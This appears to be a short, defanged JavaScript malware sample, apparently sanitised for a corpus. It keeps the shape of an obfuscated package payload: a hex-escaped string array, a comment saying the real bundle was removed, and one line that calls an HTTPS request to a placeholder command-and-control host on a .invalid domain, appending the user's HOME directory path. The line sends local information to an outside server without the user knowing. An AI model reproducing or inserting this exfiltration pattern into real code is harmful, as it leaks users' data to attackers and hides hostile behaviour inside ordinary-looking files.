var _0x1a2b=["\x68\x74\x74\x70\x73","defanged"];/* obfuscated bundle removed: corpus keeps the structure only */
require("https").get("https://c2.bundle.invalid/"+process.env.HOME);
